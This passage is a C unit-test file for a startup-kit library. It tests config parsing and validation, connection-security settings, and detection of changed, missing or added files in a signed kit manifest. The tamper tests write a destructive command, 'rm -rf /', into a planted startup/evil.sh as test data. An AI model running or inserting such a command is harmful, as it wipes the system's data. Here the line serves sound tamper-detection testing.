/* Unit tests for startup kits (src/kit/kitcfg.c, kitsig.c): fed_server.json, fed_client.json
 * and fed_admin.json read into a struct cfl_kitcfg (every field missing, of the wrong type, out
 * of range or too long, with its message; connection_security and secure_train; paths joined
 * under the kit's real folder; the 1 MiB bound), the signed manifest signature.json made and
 * checked (changed, missing and added files reported one by one, files swapped under each
 * other's names or brought from another kit, forged names and digests, another CA), and the
 * start-up check of a kit, which fails closed. Kits are provisioned by the library, or written here
 * into a temp folder. */
#define _DEFAULT_SOURCE /* realpath */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "msg_fixture.h"

#include "cfl/digest.h"
#include "cfl/kit.h"
#include "cfl/pki.h"

#include <fcntl.h>
#include <jansson.h>
#include <sys/stat.h>

static const char kitp_yml[] =
        "api_version: 3\n"
        "name: kitp\n"
        "participants:\n"
        "  - {name: server1, type: server, org: test, fed_learn_port: 8102,\n"
        "     admin_port: 8103, default_host: localhost}\n"
        "  - {name: site-1, type: client, org: test}\n"
        "  - {name: admin@test.org, type: admin, org: test, role: "
        "project_admin}\n";
static const char otherp_yml[] = "api_version: 3\n"
                                 "name: otherp\n"
                                 "participants:\n"
                                 "  - {name: server1, type: server, org: test}\n";

static char prod[PATH_MAX], other_prod[PATH_MAX];
static struct cfl_pki_key *ca_key, *other_ca_key;

/* <prod>/<participant>/startup/<file> */
static const char *kit(char *buf, size_t size, const char *base, const char *who, const char *file)
{
	if (snprintf(buf, size, "%s/%s/startup/%s", base, who, file) >= (int)size)
		fail_msg("path too long");
	return buf;
}

/* --- config files written here --------------------------------------------------------------- */

enum { CLIENT = 0, SERVER = 1, ADMIN = 2 };

static const char *const files[3] = {"fed_client.json", "fed_server.json", "fed_admin.json"};

static const char *const templates[3] = {
        "{\"format_version\": 2, \"project_name\": \"kitp\", \"servers\": [{\"identity\": "
        "\"server1\", \"service\": {\"target\": \"localhost:8102\"}}], \"client\": {\"name\": "
        "\"site-1\", \"ssl_private_key\": \"client.key\", \"ssl_cert\": \"client.crt\", "
        "\"ssl_root_cert\": \"rootCA.pem\", \"connection_security\": \"mtls\"}, "
        "\"secure_train\": true}",
        "{\"format_version\": 2, \"project_name\": \"kitp\", \"servers\": [{\"identity\": "
        "\"server1\", \"service\": {\"target\": \"server1:8102\"}, \"fed_learn_port\": 8102, "
        "\"admin_port\": 8103, \"ssl_private_key\": \"server.key\", \"ssl_cert\": "
        "\"server.crt\", \"ssl_root_cert\": \"rootCA.pem\", \"connection_security\": "
        "\"mtls\"}], \"secure_train\": true}",
        "{\"format_version\": 1, \"admin\": {\"project_name\": \"kitp\", \"server_identity\": "
        "\"server1\", \"host\": \"localhost\", \"port\": 8103, \"connection_security\": "
        "\"mtls\", \"client_cert\": \"client.crt\", \"client_key\": \"client.key\", \"ca_cert\": "
        "\"rootCA.pem\", \"username\": \"admin@test.org\"}, \"secure_train\": true}",
};

/* Sets `path` ("a.b.0.c": object keys and array indexes) in `root` to `val` (stolen; NULL
 * deletes the key). */
static void set_path(json_t *root, const char *path, json_t *val)
{
	char buf[256], *seg, *dot;
	json_t *cur = root;

	snprintf(buf, sizeof(buf), "%s", path);
	seg = buf;
	while ((dot = strchr(seg, '.')) != NULL) {
		*dot = '\0';
		cur = json_is_array(cur) ? json_array_get(cur, strtoul(seg, NULL, 10))
		                         : json_object_get(cur, seg);
		assert_non_null(cur);
		seg = dot + 1;
	}
	if (val == NULL)
		assert_int_equal(json_object_del(cur, seg), 0);
	else
		assert_int_equal(json_object_set_new(cur, seg, val), 0);
}

/* A new kit folder whose config is `text`; its real path goes to `dir`. */
static const char *kit_text(char *dir, size_t size, int role, const char *text)
{
	static int serial;
	char startup[PATH_MAX], path[PATH_MAX], name[32];
	struct cfl_err e = {0};

	snprintf(name, sizeof(name), "cfg/kit%d/startup", serial++);
	path_join(startup, sizeof(startup), tmp_dir, name);
	assert_int_equal(cfl__fs_mkdirs(startup, 0700, &e), 0);
	write_text(path_join(path, sizeof(path), startup, files[role]), text);
	assert_true(snprintf(dir, size, "%s/cfg/kit%d", tmp_dir, serial - 1) < (int)size);
	return dir;
}

/* A kit whose config is the role's template with `path` set to `val` (NULL: removed; path
 * NULL: the template as it is). */
static const char *kit_with(char *dir, size_t size, int role, const char *path, json_t *val)
{
	json_t *root = json_loads(templates[role], 0, NULL);
	char *text;

	assert_non_null(root);
	if (path != NULL)
		set_path(root, path, val);
	text = json_dumps(root, JSON_INDENT(2));
	kit_text(dir, size, role, text);
	free(text);
	json_decref(root);
	return dir;
}

/* Loading the role's template with `path` set to `val` fails with `code` and the message
 * "'<kit>/startup/<file>': <why>". */
static void refused(int role, const char *path, json_t *val, int code, const char *why)
{
	char dir[PATH_MAX], want[PATH_MAX + 512];
	struct cfl_kitcfg cfg;
	struct cfl_err e = {0};

	kit_with(dir, sizeof(dir), role, path, val);
	snprintf(want, sizeof(want), "'%s/startup/%s': %s", dir, files[role], why);
	assert_int_equal(cfl_kitcfg_load(dir, role, &cfg, &e), code);
	assert_int_equal(e.code, code);
	if (strcmp(e.msg, want) != 0)
		fail_msg("%s=...: message\n  '%s'\nnot\n  '%s'", path ? path : "-", e.msg, want);
}

/* Loads the role's template with `path` set to `val`; must succeed. */
static void loaded(int role, const char *path, json_t *val, struct cfl_kitcfg *cfg)
{
	char dir[PATH_MAX];
	struct cfl_err e = {0};

	kit_with(dir, sizeof(dir), role, path, val);
	if (cfl_kitcfg_load(dir, role, cfg, &e) != 0)
		fail_msg("%s: %s", path ? path : "template", e.msg);
}

static json_t *str_of(char c, size_t n)
{
	char buf[1024];

	assert_true(n < sizeof(buf));
	memset(buf, c, n);
	buf[n] = '\0';
	return json_string(buf);
}

/* --- provisioned kits ------------------------------------------------------------------------ */

static void expect_path(const char *got, const char *dir, const char *file)
{
	char want[PATH_MAX * 3];

	snprintf(want, sizeof(want), "%s/startup/%s", dir, file);
	assert_string_equal(got, want);
}

static void test_provisioned_kits(void **state)
{
	char dir[PATH_MAX], real[PATH_MAX], dotted[PATH_MAX + 16], want[PATH_MAX * 3];
	struct cfl_kitcfg c;
	struct cfl_err e = {0};

	(void)state;
	/* A path with "." and a trailing slash: kit_dir is the real folder. */
	snprintf(dotted, sizeof(dotted), "%s/./server1/", prod);
	assert_int_equal(cfl_kitcfg_load(dotted, SERVER, &c, &e), 0);
	path_join(dir, sizeof(dir), prod, "server1");
	assert_non_null(realpath(dir, real));
	assert_string_equal(c.kit_dir, real);
	assert_int_equal(c.is_server, 1);
	assert_string_equal(c.project, "kitp");
	assert_string_equal(c.name, "server1");
	assert_string_equal(c.identity, "server1");
	assert_int_equal(c.port, 8102);
	assert_int_equal(c.admin_port, 8103);
	assert_int_equal(c.secure_train, 1);
	assert_int_equal(c.mode, CFL_SEC_MTLS);
	expect_path(c.cert, real, "server.crt");
	expect_path(c.key, real, "server.key");
	expect_path(c.root_ca, real, "rootCA.pem");
	assert_string_equal(c.custom_ca, "");
	assert_ptr_equal(cfl_kitcfg_trust_file(&c), c.root_ca);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);

	path_join(dir, sizeof(dir), prod, "site-1");
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
	assert_int_equal(c.is_server, 0);
	assert_string_equal(c.project, "kitp");
	assert_string_equal(c.name, "site-1");
	assert_string_equal(c.identity, "server1");
	assert_string_equal(c.host, "localhost");
	assert_int_equal(c.port, 8102);
	assert_int_equal(c.mode, CFL_SEC_MTLS);
	expect_path(c.cert, c.kit_dir, "client.crt");
	expect_path(c.key, c.kit_dir, "client.key");
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);

	path_join(dir, sizeof(dir), prod, "admin@test.org");
	assert_int_equal(cfl_kitcfg_load(dir, ADMIN, &c, &e), 0);
	assert_int_equal(c.is_server, 0);
	assert_string_equal(c.project, "kitp");
	assert_string_equal(c.name, "admin@test.org");
	assert_string_equal(c.identity, "server1");
	assert_string_equal(c.host, "localhost");
	assert_int_equal(c.port, 8103);
	expect_path(c.root_ca, c.kit_dir, "rootCA.pem");
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);

	/* A kit of one role is not a kit of another. */
	path_join(dir, sizeof(dir), prod, "site-1");
	assert_int_equal(cfl_kitcfg_load(dir, SERVER, &c, &e), CFL_ENOENT);
	assert_non_null(realpath(dir, real));
	snprintf(want, sizeof(want), "'%s' is not a server kit: no '%s/startup/fed_server.json'",
	         dir, real);
	assert_string_equal(e.msg, want);
	assert_int_equal(cfl_kitcfg_load(dir, ADMIN, &c, &e), CFL_ENOENT);
	assert_non_null(strstr(e.msg, "is not an admin kit: no '"));
	path_join(dir, sizeof(dir), prod, "server1");
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), CFL_ENOENT);
	assert_non_null(strstr(e.msg, "is not a client kit: no '"));
}

/* --- the files themselves -------------------------------------------------------------------- */

static void test_unreadable_files(void **state)
{
	char dir[PATH_MAX], want[PATH_MAX * 3], path[PATH_MAX];
	struct cfl_kitcfg c;
	struct cfl_err e = {0};
	char *big;
	size_t cut;

	(void)state;
	assert_int_equal(cfl_kitcfg_load("/nonexistent/kit", CLIENT, &c, &e), CFL_ENOENT);
	assert_string_equal(e.msg, "cannot open kit '/nonexistent/kit': no such folder");
	assert_int_equal(cfl_kitcfg_load(prod, 3, &c, &e), CFL_EINVAL);
	assert_string_equal(e.msg, "bad kit role");
	assert_int_equal(cfl_kitcfg_load(prod, -1, &c, &e), CFL_EINVAL);

	/* Not JSON, with the line of the error. */
	kit_text(dir, sizeof(dir), SERVER, "{\n  \"servers\": [\n}\n");
	assert_int_equal(cfl_kitcfg_load(dir, SERVER, &c, &e), CFL_ECONFIG);
	snprintf(want, sizeof(want), "'%s/startup/fed_server.json': line 3: ", dir);
	if (strncmp(e.msg, want, strlen(want)) != 0)
		fail_msg("'%s' does not start with '%s'", e.msg, want);
	/* Keys given twice. */
	kit_text(dir, sizeof(dir), CLIENT, "{\"client\": {}, \"client\": {}}");
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), CFL_ECONFIG);
	assert_non_null(strstr(e.msg, "duplicate object key"));
	/* JSON, but not an object. */
	kit_text(dir, sizeof(dir), ADMIN, "[1, 2]");
	assert_int_equal(cfl_kitcfg_load(dir, ADMIN, &c, &e), CFL_ECONFIG);
	snprintf(want, sizeof(want), "'%s/startup/fed_admin.json': not a JSON object", dir);
	assert_string_equal(e.msg, want);

	/* At most 1 MiB: the template padded with spaces to exactly that loads, one byte more
	 * does not. */
	big = malloc((1u << 20) + 2);
	assert_non_null(big);
	memset(big, ' ', (1u << 20) + 1);
	big[(1u << 20) + 1] = '\0';
	cut = strlen(templates[SERVER]);
	memcpy(big, templates[SERVER], cut);
	big[1u << 20] = '\0';
	kit_text(dir, sizeof(dir), SERVER, big);
	assert_int_equal(cfl_kitcfg_load(dir, SERVER, &c, &e), 0);
	big[1u << 20] = ' ';
	kit_text(dir, sizeof(dir), SERVER, big);
	free(big);
	assert_int_equal(cfl_kitcfg_load(dir, SERVER, &c, &e), CFL_ETOOBIG);
	path_join(path, sizeof(path), dir, "startup/fed_server.json");
	snprintf(want, sizeof(want), "cannot read '%s': larger than 1048576 bytes", path);
	assert_string_equal(e.msg, want);

	/* A folder where the file should be. */
	kit_text(dir, sizeof(dir), CLIENT, "{}");
	path_join(path, sizeof(path), dir, "startup/fed_server.json");
	assert_int_equal(mkdir(path, 0700), 0);
	assert_int_equal(cfl_kitcfg_load(dir, SERVER, &c, &e), CFL_EIO);
	assert_non_null(strstr(e.msg, "not a regular file"));
}

/* --- fields ---------------------------------------------------------------------------------- */

static void test_server_fields(void **state)
{
	struct cfl_kitcfg c;

	(void)state;
	refused(SERVER, "servers", NULL, CFL_ECONFIG, "'servers' must hold one server");
	refused(SERVER, "servers", json_array(), CFL_ECONFIG, "'servers' must hold one server");
	refused(SERVER, "servers", json_pack("[i]", 1), CFL_ECONFIG,
	        "'servers' must hold one server");
	refused(SERVER, "servers.0.identity", NULL, CFL_ECONFIG,
	        "'servers[0].identity' is missing or not a string");
	refused(SERVER, "servers.0.identity", json_integer(7), CFL_ECONFIG,
	        "'servers[0].identity' is missing or not a string");
	refused(SERVER, "servers.0.identity", json_string(""), CFL_ECONFIG,
	        "'servers[0].identity' is missing or not a string");
	refused(SERVER, "servers.0.identity", str_of('s', 256), CFL_ECONFIG,
	        "'servers[0].identity' is too long");
	loaded(SERVER, "servers.0.identity", str_of('s', 255), &c);
	assert_int_equal(strlen(c.name), 255);

	refused(SERVER, "servers.0.fed_learn_port", json_string("8102"), CFL_ECONFIG,
	        "'fed_learn_port' must be a port 1..65535");
	refused(SERVER, "servers.0.fed_learn_port", json_integer(0), CFL_ECONFIG,
	        "'fed_learn_port' must be a port 1..65535");
	refused(SERVER, "servers.0.fed_learn_port", json_integer(65536), CFL_ECONFIG,
	        "'fed_learn_port' must be a port 1..65535");
	refused(SERVER, "servers.0.fed_learn_port", json_real(8102.0), CFL_ECONFIG,
	        "'fed_learn_port' must be a port 1..65535");
	refused(SERVER, "servers.0.admin_port", NULL, CFL_ECONFIG,
	        "'admin_port' must be a port 1..65535");
	loaded(SERVER, "servers.0.admin_port", json_integer(65535), &c);
	assert_int_equal(c.admin_port, 65535);

	refused(SERVER, "servers.0.ssl_cert", NULL, CFL_ECONFIG,
	        "'ssl_cert' is missing or not a string");
	refused(SERVER, "servers.0.ssl_private_key", json_true(), CFL_ECONFIG,
	        "'ssl_private_key' is missing or not a string");
	refused(SERVER, "servers.0.ssl_root_cert", json_string("../../other/rootCA.pem"),
	        CFL_ECONFIG, "'ssl_root_cert' must name a file in startup/");
	refused(SERVER, "servers.0.ssl_cert", json_string("/etc/ssl/server.crt"), CFL_ECONFIG,
	        "'ssl_cert' must name a file in startup/");
	refused(SERVER, "servers.0.ssl_cert", str_of('c', 256), CFL_ECONFIG,
	        "'ssl_cert' is too long");
	refused(SERVER, "servers.0.custom_ca_cert", json_string("a/b.pem"), CFL_ECONFIG,
	        "'custom_ca_cert' must name a file in startup/");
	refused(SERVER, "servers.0.connection_security", json_string("tlss"), CFL_ECONFIG,
	        "invalid connection_security (allowed: clear, tls, mtls)");
	refused(SERVER, "servers.0.connection_security", json_integer(2), CFL_ECONFIG,
	        "invalid connection_security (allowed: clear, tls, mtls)");
}

static void test_client_fields(void **state)
{
	struct cfl_kitcfg c;
	char host[300], why[400];

	(void)state;
	refused(CLIENT, "client", NULL, CFL_ECONFIG, "needs 'servers' and 'client'");
	refused(CLIENT, "servers", NULL, CFL_ECONFIG, "needs 'servers' and 'client'");
	refused(CLIENT, "client", json_string("site-1"), CFL_ECONFIG,
	        "needs 'servers' and 'client'");
	refused(CLIENT, "servers.0.identity", NULL, CFL_ECONFIG,
	        "'servers[0].identity' is missing or not a string");
	refused(CLIENT, "servers.0.service", NULL, CFL_ECONFIG,
	        "'servers[0].service.target' is missing or not a string");
	refused(CLIENT, "servers.0.service.target", json_string("localhost"), CFL_ECONFIG,
	        "target 'localhost' is not host:port");
	refused(CLIENT, "servers.0.service.target", json_string("localhost:0"), CFL_ECONFIG,
	        "bad target 'localhost:0'");
	refused(CLIENT, "servers.0.service.target", json_string("localhost:80x"), CFL_ECONFIG,
	        "bad target 'localhost:80x'");
	refused(CLIENT, "servers.0.service.target", json_string(":8102"), CFL_ECONFIG,
	        "bad target ':8102'");
	refused(CLIENT, "servers.0.service.target", json_string("localhost:65536"), CFL_ECONFIG,
	        "bad target 'localhost:65536'");
	/* Host names up to 255 bytes. */
	memset(host, 'h', 255);
	snprintf(host + 255, sizeof(host) - 255, ":1");
	loaded(CLIENT, "servers.0.service.target", json_string(host), &c);
	assert_int_equal(strlen(c.host), 255);
	assert_int_equal(c.port, 1);
	memset(host, 'h', 256);
	snprintf(host + 256, sizeof(host) - 256, ":1");
	snprintf(why, sizeof(why), "bad target '%s'", host);
	refused(CLIENT, "servers.0.service.target", json_string(host), CFL_ECONFIG, why);
	loaded(CLIENT, "servers.0.service.target", json_string("[::1]:8102"), &c);
	assert_string_equal(c.host, "::1");
	assert_int_equal(c.port, 8102);
	loaded(CLIENT, "servers.0.service.target", json_string("10.0.0.7:443"), &c);
	assert_string_equal(c.host, "10.0.0.7");
	assert_int_equal(c.port, 443);

	refused(CLIENT, "client.name", NULL, CFL_ECONFIG,
	        "'client.name' is missing or not a string");
	refused(CLIENT, "client.name", json_null(), CFL_ECONFIG,
	        "'client.name' is missing or not a string");
	refused(CLIENT, "client.ssl_cert", json_string("sub/client.crt"), CFL_ECONFIG,
	        "'ssl_cert' must name a file in startup/");
	refused(CLIENT, "client.ssl_root_cert", NULL, CFL_ECONFIG,
	        "'ssl_root_cert' is missing or not a string");
	refused(CLIENT, "client.connection_security", json_string(""), CFL_ECONFIG,
	        "invalid connection_security (allowed: clear, tls, mtls)");
	/* project_name is optional for sites: empty when absent. */
	loaded(CLIENT, "project_name", NULL, &c);
	assert_string_equal(c.project, "");
}

static void test_admin_fields(void **state)
{
	struct cfl_kitcfg c;

	(void)state;
	refused(ADMIN, "admin", NULL, CFL_ECONFIG, "needs 'admin'");
	refused(ADMIN, "admin", json_array(), CFL_ECONFIG, "needs 'admin'");
	refused(ADMIN, "admin.server_identity", NULL, CFL_ECONFIG,
	        "'admin.server_identity' is missing or not a string");
	refused(ADMIN, "admin.host", json_integer(1), CFL_ECONFIG,
	        "'admin.host' is missing or not a string");
	refused(ADMIN, "admin.port", json_string("8103"), CFL_ECONFIG,
	        "'admin.port' must be a port 1..65535");
	refused(ADMIN, "admin.port", json_integer(-1), CFL_ECONFIG,
	        "'admin.port' must be a port 1..65535");
	refused(ADMIN, "admin.username", NULL, CFL_ECONFIG,
	        "'admin.username' is missing or not a string");
	refused(ADMIN, "admin.project_name", NULL, CFL_ECONFIG,
	        "'admin.project_name' is missing or not a string");
	refused(ADMIN, "admin.project_name", str_of('p', 300), CFL_ECONFIG,
	        "'admin.project_name' is too long");
	refused(ADMIN, "admin.client_cert", NULL, CFL_ECONFIG,
	        "'client_cert' is missing or not a string");
	refused(ADMIN, "admin.client_key", json_string("./client.key"), CFL_ECONFIG,
	        "'client_key' must name a file in startup/");
	refused(ADMIN, "admin.ca_cert", json_string("a/b"), CFL_ECONFIG,
	        "'ca_cert' must name a file in startup/");
	refused(ADMIN, "admin.connection_security", json_string("none"), CFL_ECONFIG,
	        "invalid connection_security (allowed: clear, tls, mtls)");
	loaded(ADMIN, NULL, NULL, &c);
	assert_string_equal(c.project, "kitp");
	assert_string_equal(c.name, "admin@test.org");
	assert_string_equal(c.identity, "server1");
	assert_int_equal(c.port, 8103);
	expect_path(c.cert, c.kit_dir, "client.crt");
	expect_path(c.key, c.kit_dir, "client.key");
	expect_path(c.root_ca, c.kit_dir, "rootCA.pem");
}

/* connection_security when given, else secure_train: true (or absent) means mtls, false clear. */
static void test_connection_security(void **state)
{
	struct cfl_kitcfg c;
	char dir[PATH_MAX];
	json_t *root;
	char *text;
	struct cfl_err e = {0};

	(void)state;
	loaded(SERVER, "servers.0.connection_security", NULL, &c);
	assert_int_equal(c.secure_train, 1);
	assert_int_equal(c.mode, CFL_SEC_MTLS);
	loaded(SERVER, "secure_train", NULL, &c);
	assert_int_equal(c.secure_train, 1);
	assert_int_equal(c.mode, CFL_SEC_MTLS);
	loaded(CLIENT, "client.connection_security", json_string("TLS"), &c);
	assert_int_equal(c.mode, CFL_SEC_TLS);
	loaded(CLIENT, "client.connection_security", json_string("clear"), &c);
	assert_int_equal(c.mode, CFL_SEC_CLEAR);
	assert_int_equal(c.secure_train, 1);
	/* Only a JSON false turns secure_train off. */
	loaded(CLIENT, "secure_train", json_string("false"), &c);
	assert_int_equal(c.secure_train, 1);
	loaded(ADMIN, "secure_train", json_false(), &c);
	assert_int_equal(c.secure_train, 0);
	assert_int_equal(c.mode, CFL_SEC_MTLS); /* the explicit value still wins */

	/* secure_train false and no connection_security: clear. */
	root = json_loads(templates[CLIENT], 0, NULL);
	set_path(root, "secure_train", json_false());
	set_path(root, "client.connection_security", NULL);
	text = json_dumps(root, 0);
	kit_text(dir, sizeof(dir), CLIENT, text);
	free(text);
	json_decref(root);
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
	assert_int_equal(c.secure_train, 0);
	assert_int_equal(c.mode, CFL_SEC_CLEAR);

	/* A tls client trusts the custom CA when the kit has one; mtls always the root CA. */
	loaded(CLIENT, "client.custom_ca_cert", json_string("customRootCA.pem"), &c);
	expect_path(c.custom_ca, c.kit_dir, "customRootCA.pem");
	assert_ptr_equal(cfl_kitcfg_trust_file(&c), c.root_ca);
	c.mode = CFL_SEC_TLS;
	assert_ptr_equal(cfl_kitcfg_trust_file(&c), c.custom_ca);
	loaded(CLIENT, "client.connection_security", json_string("tls"), &c);
	assert_ptr_equal(cfl_kitcfg_trust_file(&c), c.root_ca);
}

/* --- signatures ------------------------------------------------------------------------------ */

/* What cfl_kit_verify reported. */
struct problems {
	int n;
	enum cfl_kit_problem what[16];
	char file[16][128];
};

static void on_problem(enum cfl_kit_problem what, const char *file, void *arg)
{
	struct problems *p = arg;

	if (p->n < 16) {
		p->what[p->n] = what;
		snprintf(p->file[p->n], sizeof(p->file[0]), "%s", file);
	}
	p->n++;
}

static int has(const struct problems *p, enum cfl_kit_problem what, const char *file)
{
	for (int i = 0; i < p->n && i < 16; i++) {
		if (p->what[i] == what && strcmp(p->file[i], file) == 0)
			return 1;
	}
	return 0;
}

/* A kit written here and signed with the project's CA key: startup/ with the root CA, a
 * config, a certificate and a script; local/ with one default and one file of the site's. */
static const char *signed_kit(char *dir, size_t size, const char *name)
{
	static const char *const texts[][2] = {
	        {"startup/fed_client.json", NULL},
	        {"startup/client.crt", "not really a certificate\n"},
	        {"startup/start.sh", "#!/bin/sh\necho start\n"},
	        {"local/resources.json.default", "{\"gpu\": 0}\n"},
	        {"local/site.conf", "the site's own\n"},
	};
	char path[PATH_MAX], ca[PATH_MAX];
	struct cfl_err e = {0};

	path_join(dir, size, tmp_dir, name);
	path_join(path, sizeof(path), dir, "startup");
	assert_int_equal(cfl__fs_mkdirs(path, 0700, &e), 0);
	path_join(path, sizeof(path), dir, "local");
	assert_int_equal(cfl__fs_mkdirs(path, 0700, &e), 0);
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		write_text(path_join(path, sizeof(path), dir, texts[i][0]),
		           texts[i][1] != NULL ? texts[i][1] : templates[CLIENT]);
	kit(ca, sizeof(ca), prod, "site-1", "rootCA.pem");
	assert_int_equal(cfl__fs_copy_file(ca,
	                                   path_join(path, sizeof(path), dir, "startup/rootCA.pem"),
	                                   1u << 20, 0644, &e),
	                 0);
	if (cfl_kit_sign(dir, ca_key, &e) != 0)
		fail_msg("sign: %s", e.msg);
	return dir;
}

/* Verifies `dir`; returns the code, problems in *p, message in e. */
static int verify(const char *dir, struct problems *p, struct cfl_err *e)
{
	memset(p, 0, sizeof(*p));
	cfl_err_clear(e);
	return cfl_kit_verify(dir, on_problem, p, e);
}

static void append(const char *dir, const char *rel, const char *text)
{
	char path[PATH_MAX];
	FILE *f;

	path_join(path, sizeof(path), dir, rel);
	f = fopen(path, "a");
	assert_non_null(f);
	fputs(text, f);
	assert_int_equal(fclose(f), 0);
}

/* signature.json of `dir`, parsed. */
static json_t *manifest_of(const char *dir)
{
	char path[PATH_MAX], *text = NULL;
	struct cfl_err e = {0};
	size_t len = 0;
	json_t *v;

	path_join(path, sizeof(path), dir, "startup/signature.json");
	assert_int_equal(cfl__fs_read_file(path, 1u << 20, &text, &len, &e), 0);
	v = json_loads(text, 0, NULL);
	free(text);
	assert_non_null(v);
	return v;
}

static void manifest_save(const char *dir, json_t *v)
{
	char path[PATH_MAX], *text = json_dumps(v, JSON_INDENT(2));

	assert_non_null(text);
	write_text(path_join(path, sizeof(path), dir, "startup/signature.json"), text);
	free(text);
}

/* Writes a signature.json of the right shape holding `listed` (JSON text) and `sig`. */
static void manifest_write(const char *dir, const char *listed, const char *sig)
{
	char path[PATH_MAX], text[4096];

	snprintf(text, sizeof(text),
	         "{\"format\": \"cfl-kit-manifest/1\", \"files\": %s, \"signature\": \"%s\"}",
	         listed, sig);
	write_text(path_join(path, sizeof(path), dir, "startup/signature.json"), text);
}

static void sha256_hex(const char *text, char hex[65])
{
	struct cfl_sha256 *h = cfl_sha256_new();
	uint8_t md[CFL_SHA256_LEN];

	assert_non_null(h);
	cfl_sha256_update(h, text, strlen(text));
	cfl_sha256_final(h, md);
	cfl_sha256_free(h);
	cfl_hex(md, sizeof(md), hex);
}

static void test_sign_and_verify(void **state)
{
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], hex[65];
	struct problems p;
	struct cfl_err e = {0};
	json_t *m, *listed;

	(void)state;
	assert_string_equal(cfl_kit_problem_name(CFL_KIT_CHANGED), "changed");
	assert_string_equal(cfl_kit_problem_name(CFL_KIT_MISSING), "missing");
	assert_string_equal(cfl_kit_problem_name(CFL_KIT_ADDED), "added");

	signed_kit(dir, sizeof(dir), "sig-intact");
	assert_int_equal(verify(dir, &p, &e), 0);
	assert_int_equal(p.n, 0);
	/* What is signed: startup/ but signature.json, local/ defaults and samples only, each
	 * name with its SHA-256, under one signature. */
	m = manifest_of(dir);
	assert_string_equal(json_string_value(json_object_get(m, "format")), "cfl-kit-manifest/1");
	assert_true(json_string_length(json_object_get(m, "signature")) > 0);
	listed = json_object_get(m, "files");
	assert_int_equal(json_object_size(listed), 5);
	assert_non_null(json_object_get(listed, "startup/fed_client.json"));
	assert_non_null(json_object_get(listed, "startup/client.crt"));
	assert_non_null(json_object_get(listed, "startup/rootCA.pem"));
	assert_non_null(json_object_get(listed, "local/resources.json.default"));
	sha256_hex("#!/bin/sh\necho start\n", hex);
	assert_string_equal(json_string_value(json_object_get(listed, "startup/start.sh")), hex);
	json_decref(m);
	/* The site's own files in local/ are not the kit's business. */
	append(dir, "local/site.conf", "changed by the site\n");
	append(dir, "local/notes.txt", "new\n");
	assert_int_equal(verify(dir, &p, &e), 0);

	/* One changed file. */
	append(dir, "startup/fed_client.json", " ");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/fed_client.json"));
	snprintf(want, sizeof(want),
	         "kit '%s' has 1 changed, missing or added file: 'startup/fed_client.json' changed",
	         dir);
	assert_string_equal(e.msg, want);

	/* Changed, missing and added at once, each reported. */
	signed_kit(dir, sizeof(dir), "sig-three");
	append(dir, "local/resources.json.default", "\n");
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/start.sh")), 0);
	append(dir, "startup/evil.sh", "rm -rf /\n");
	append(dir, "local/extra.default", "{}\n");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 4);
	assert_true(has(&p, CFL_KIT_CHANGED, "local/resources.json.default"));
	assert_true(has(&p, CFL_KIT_MISSING, "startup/start.sh"));
	assert_true(has(&p, CFL_KIT_ADDED, "startup/evil.sh"));
	assert_true(has(&p, CFL_KIT_ADDED, "local/extra.default"));
	snprintf(want, sizeof(want), "kit '%s' has 4 changed, missing or added files: ", dir);
	assert_memory_equal(e.msg, want, strlen(want));
	assert_non_null(strstr(e.msg, "'startup/start.sh' missing"));
	assert_non_null(strstr(e.msg, "'startup/evil.sh' added"));
	/* Without a callback: the same verdict. */
	assert_int_equal(cfl_kit_verify(dir, NULL, NULL, &e), CFL_EVERIFY);

	/* A file whose name the manifest cannot hold is not signed, and shows as added. */
	signed_kit(dir, sizeof(dir), "sig-space");
	append(dir, "startup/a b", "x");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_true(has(&p, CFL_KIT_ADDED, "startup/a b"));
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_EINVAL);
	assert_string_equal(
	        e.msg, "cannot sign 'startup/a b': a name with a space or a control character");

	/* The provisioned kits verify as they are. */
	path_join(path, sizeof(path), prod, "site-1");
	assert_int_equal(verify(path, &p, &e), 0);
	path_join(path, sizeof(path), prod, "server1");
	assert_int_equal(verify(path, &p, &e), 0);
}

/* Swaps the contents of two files of a kit. */
static void swap_files(const char *dir, const char *a, const char *b)
{
	char pa[PATH_MAX], pb[PATH_MAX], tmp[PATH_MAX + 8];

	path_join(pa, sizeof(pa), dir, a);
	path_join(pb, sizeof(pb), dir, b);
	snprintf(tmp, sizeof(tmp), "%s.swap", pa);
	assert_int_equal(rename(pa, tmp), 0);
	assert_int_equal(rename(pb, pa), 0);
	assert_int_equal(rename(tmp, pb), 0);
}

/* What a bad manifest signature looks like: signature.json alone reported. */
static void expect_bad_signature(const char *dir)
{
	char want[PATH_MAX * 2];
	struct problems p;
	struct cfl_err e = {0};

	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/signature.json"));
	snprintf(want, sizeof(want),
	         "kit '%s': the signature of 'startup/signature.json' does not verify with "
	         "'startup/rootCA.pem'",
	         dir);
	assert_string_equal(e.msg, want);
}

/* With one signature per file (NVFlare's signature.json), two signed files could trade names
 * along with their signatures, and a signed file of another kit of the project could come in
 * with its own: the manifest binds every name to its digest under one signature. */
static void test_swapped_files(void **state)
{
	char dir[PATH_MAX], other[PATH_MAX], path[PATH_MAX], src_dst[PATH_MAX];
	struct problems p;
	struct cfl_err e = {0};
	json_t *m, *listed, *mo, *a, *b;

	(void)state;
	/* Two files swapped: both changed. */
